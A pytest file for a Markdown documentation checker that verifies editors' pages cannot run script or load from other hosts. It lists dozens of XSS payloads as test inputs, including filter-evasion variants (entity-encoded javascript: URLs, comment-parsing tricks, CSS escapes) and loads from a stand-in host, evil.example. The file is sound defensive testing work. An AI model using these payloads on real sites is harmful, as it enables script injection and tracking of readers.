"""Nothing an editor writes may run script in a reader's browser or load from another host: every
form of it is an error on its line, and what a page legitimately holds is not."""

from __future__ import annotations

import pytest

from sapat.core.sources.active_html import active_content, address_problem, attribute_problem

#: Raw HTML, attribute lists and link definitions that run script or load from elsewhere, each
#: with the message it gets (the key, and a value the message names).
ACTIVE = {
    "<script>alert(1)</script>": ("html.element", "script"),
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>": ("html.element", "script"),
    "Not escaped by a backslash: \\<script>alert(1)</script>": ("html.element", "script"),
    '<img src="x" onerror="alert(1)">': ("html.attribute", "onerror"),
    "<svg onload=alert(1)>": ("html.attribute", "onload"),
    "<details open ontoggle=alert(1)>": ("html.attribute", "ontoggle"),
    '<a href="javascript:alert(1)">x</a>': ("address.unsafe", "javascript"),
    '<a href="JaVaScRiPt:alert(1)">x</a>': ("address.unsafe", "javascript"),
    '<a href=" java&#x09;script&colon;alert(1)">x</a>': ("address.unsafe", "javascript"),
    '<a href="vbscript:msgbox(1)">x</a>': ("address.unsafe", "vbscript"),
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>': ("address.unsafe", "data"),
    '<img src="data:image/png;base64,iVBORw0KGgo=">': ("address.unsafe", "data"),
    '<iframe src="https://evil.example/"></iframe>': ("html.element", "iframe"),
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>': ("html.element", "iframe"),
    '<div srcdoc="x">': ("html.attribute", "srcdoc"),
    '<object data="x.swf"></object>': ("html.element", "object"),
    '<embed src="x.swf">': ("html.element", "embed"),
    '<form action="https://evil.example/"><input name=p></form>': ("html.element", "form"),
    '<button formaction="javascript:alert(1)">x</button>': ("address.unsafe", "javascript"),
    '<base href="https://evil.example/">': ("html.element", "base"),
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">': ("html.element", "meta"),
    '<link rel="stylesheet" href="https://evil.example/x.css">': ("html.element", "link"),
    "<style>@import url(https://evil.example/x.css);</style>": ("html.element", "style"),
    '<p style="background: url(https://evil.example/x.png)">x</p>': ("html.style", "url("),
    '<p style="background: u\\72 l(https://evil.example/x.png)">x</p>': ("html.style", "u\\72 l("),
    '<p style="background: u/**/rl(x.png)">x</p>': ("html.style", "u/**/rl("),
    '<p style="width: expression(alert(1))">x</p>': ("html.style", "expression("),
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>': ("address.unsafe", "javascript"),
    '<svg><set attributeName="href" to="javascript:alert(1)"/></svg>': ("html.element", "set"),
    '<svg><image href="https://evil.example/x.png"/></svg>': ("address.remote", "evil.example"),
    '<img src="https://evil.example/track.png">': ("address.remote", "evil.example"),
    '<img src="//evil.example/x.png">': ("address.remote", "evil.example"),
    '<img src="\\\\evil.example\\x.png">': ("address.remote", "evil.example"),
    '<img srcset="a.png 1x, https://evil.example/b.png 2x">': ("address.remote", "evil.example"),
    '<video poster="https://evil.example/x.png"></video>': ("address.remote", "evil.example"),
    'A paragraph.\n{: onclick="alert(1)" }': ("html.attribute", "onclick"),
    "## 4.2 Heading {#x onmouseover=alert(1)}": ("html.attribute", "onmouseover"),
    '[text](04-qms.md){.a} and [more](04-qms.md){href="javascript:alert(1)"}': ("address.unsafe", "javascript"),
    '![a](logo.png){style="background:url(//evil.example/x)"}': ("html.style", "url("),
    "[A link](javascript:alert(1))": ("address.unsafe", "javascript"),
    "[A link](java&#9;script:alert(1) 'title')": ("address.unsafe", "javascript"),
    "[A link](<data:text/html,alert(1)>)": ("address.unsafe", "data"),
    "![An image](//evil.example/t.png)": ("address.remote", "evil.example"),
    "An image ![across\nlines](https://evil.example/t.png)": ("address.remote", "evil.example"),
    "See [the form][f].\n\n[f]: javascript:alert(1)": ("address.unsafe", "javascript"),
    "See [the form][f].\n\n[f]: <vbscript:msgbox(1)>": ("address.unsafe", "vbscript"),
    "An image: ![logo][Logo  One].\n\n[logo one]: https://evil.example/t.png": ("address.remote", "evil.example"),
    # Where Python's parser, a browser and Markdown part on what a comment hides, it hides nothing.
    "<!--> <script>alert(1)</script> -->": ("html.element", "script"),
    "<!-- --!> <img src=x onerror=alert(1)> -->": ("html.attribute", "onerror"),
    "<!-- a <img src=x onerror=alert(1)> <!-- b -->": ("html.attribute", "onerror"),
    "<![CDATA[ > <img src=x onerror=alert(1)> ]]>": ("html.attribute", "onerror"),
    "<![i](x.png) <img src=x onerror=alert(1)>": ("html.attribute", "onerror"),
    "</ <img src=x onerror=alert(1)>": ("html.attribute", "onerror"),
    "<? <img src=x onerror=alert(1)> ?>": ("html.attribute", "onerror"),
    # What Markdown does not take for code runs: backticks in raw HTML, a fence never closed.
    "<div>\n`<script>alert(1)</script>`\n</div>": ("html.element", "script"),
    "```\n<script>alert(1)</script>": ("html.element", "script"),
}


@pytest.mark.parametrize("written", ACTIVE, ids=list(ACTIVE))
def test_active_content_is_an_error_on_its_line(written):
    body = "# 9. Title\n\nSome text.\n\n" + written + "\n\nMore text.\n"
    [problem] = active_content("manual/ky/09-export.md", body, first_line=6)
    key, shown = ACTIVE[written]
    assert (problem.path, problem.message.key) == ("manual/ky/09-export.md", key)
    # The form starts on line 10 of the file; the finding is on its line that names what is found.
    assert problem.line == 10 + next((number for number, line in enumerate(written.split("\n"))
                                      if shown.lower() in line.lower()), 0)
    assert shown in problem.format("en"), problem.format("en")
    assert problem.hint is not None and problem.hint.key == f"{key}.hint"


def test_a_tag_over_several_lines_is_reported_where_it_starts():
    body = 'Text.\n\n<img\n  src="x"\n  onerror="alert(1)">\n'
    assert [(d.line, d.message.key) for d in active_content("p.md", body)] == [(3, "html.attribute")]


def test_every_finding_of_a_page_is_reported():
    body = '<script>x</script>\n\n<img src=x onerror=y onload=z>\n\n[a]: data:text/html,x\n'
    found = [(d.line, str(d.message)) for d in active_content("p.md", body)]
    assert [line for line, _ in found] == [1, 3, 3, 5]


#: What a page legitimately holds: harmless HTML, links and images of the site, code that
#: shows HTML as text, attribute lists that set an id or a class.
HARMLESS = [
    "Open <http://127.0.0.1:8000/> in the browser.",
    "<b>bold</b>, <abbr title='Quality Management System'>QMS</abbr>, <kbd>Ctrl</kbd>",
    '<a href="https://example.org/">an address</a> and <a href="mailto:quality@jasu.invalid">mail</a>',
    '<a href="04-qms.md#4.2.4">a page</a>, <img src="logo.png" alt="logo">, <img src="img/a.png">',
    '<p style="text-align: center">centred</p>',
    "<details><summary>More</summary>\n\nText.\n\n</details>",
    "```html\n<script>alert(1)</script>\n<img src=x onerror=alert(1)>\n```",
    "~~~\n```\n<script>alert(1)</script>\n```\n~~~",
    "## 4.2 Heading {#clause-4-2 .important}",
    "A [link][id] to a site, ![an image][img].\n\n[id]: https://example.org/\n[img]: logo.png\n[x]: 04-qms.md#4.2",
    "[a page](04-qms.md#4.2.4), [a site](https://example.org/), ![an image](img/logo.png), [mail](mailto:a@b.invalid)",
    "Text with a brace { and one more } and <3 hearts, a < b > c.",
    "<!-- an editor's comment -->",
]


@pytest.mark.parametrize("written", HARMLESS)
def test_what_a_page_legitimately_holds_is_no_error(written):
    assert active_content("p.md", written + "\n") == []


@pytest.mark.parametrize(("address", "loads", "key"), [
    ("https://example.org/x", False, None),
    ("https://example.org/x.png", True, "address.remote"),
    ("x.png", True, None),
    ("../img/x.png", True, None),
    ("#4.2.4", False, None),
    ("tel:+996", False, None),
    ("javascript:alert(1)", False, "address.unsafe"),
    ("\x01javascript:alert(1)", False, "address.unsafe"),
    ("java\nscript:alert(1)", False, "address.unsafe"),
    ("&#106;avascript:alert(1)", False, "address.unsafe"),
    ("file:///etc/passwd", False, "address.unsafe"),
    ("data:image/png;base64,iVBORw0KGgo=", True, "address.unsafe"),
])
def test_an_address_is_judged_as_a_browser_reads_it(address, loads, key):
    problem = address_problem(address, loads)
    assert (problem.key if problem else None) == key


def test_an_attribute_is_judged_by_its_element():
    """``href`` is followed on a link and loaded on SVG's ``use``; other attributes are data."""
    assert attribute_problem("a", "href", "https://example.org/") is None
    assert attribute_problem("use", "href", "https://evil.example/x.svg#a").key == "address.remote"
    assert attribute_problem("div", "title", "javascript:alert(1)") is None
    assert attribute_problem("div", "data-sapat-x", "javascript:alert(1)") is None
    assert attribute_problem(None, "ONCLICK", "alert(1)").key == "html.attribute"
    assert attribute_problem(None, "one", None) is None
